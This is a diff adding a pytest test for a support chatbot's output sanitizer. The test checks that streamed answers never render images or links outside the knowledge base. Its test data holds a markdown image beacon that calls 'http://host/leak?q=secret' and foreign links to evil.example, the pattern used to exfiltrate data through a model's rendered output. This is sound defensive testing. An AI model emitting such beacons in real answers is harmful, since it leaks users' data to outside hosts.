@@ -13,6 +13,7 @@ from pathlib import Path
 
 import httpx
 import pytest
+from markdown_it import MarkdownIt
 from openai import OpenAI
 
 from bot.config import Settings
@@ -374,6 +375,23 @@ def test_a_streamed_answer_shows_only_sentences_that_passed_the_screens(kb: Sett
     assert moderation.ok and moderation.reasons == ("moderated while streamed: 2 sentences, each in its paragraph",)
     assert set(moderation.scores) == set(CATEGORIES) and moderation.ms > 0
     assert [v.screen for v in turn.verdicts][-4:] == ["groundedness", "leakage", "citations", "sanitize"]
+
+
+def test_a_streamed_answer_never_shows_an_image_or_a_link_outside_the_kb(kb: Settings) -> None:
+    """Image beacons and foreign links inside a grounded sentence (bot.markdown): a scripted stream."""
+    beacon = "![gift [note] sample](http://host/leak?q=secret)"
+    foreign = "[x](http://evil.example 'title') [y](http://evil.example (t)) www.evil.example HTTP://EVIL.EXAMPLE/u"
+    reply = citing_visa(
+        f"We accept Visa, Mastercard {beacon} and American Express, as well as PayPal {foreign}. [{{n}}]"
+    )
+    shown: list[str] = []
+    turn = llm_pipeline(kb, reply, []).run(CARDS_Q, "billing", User("u"), on_text=shown.append)
+    assert turn.decision is Decision.ANSWERED and turn.model == "gpt-4o-mini-2024-07-18" and shown
+    for text in [*shown, turn.answer]:
+        tokens = [c for t in MarkdownIt().parse(text) for c in t.children or []]
+        assert not [t for t in tokens if t.type in ("image", "link_open")], text
+        assert "host" not in text and "evil" not in text.lower(), text
+    assert "gift \\[note\\] sample" in turn.answer  # the alt text stays, as text
 
 
 def test_a_streamed_harmful_sentence_is_never_shown_and_the_quoted_answer_replaces_it(kb: Settings) -> None:
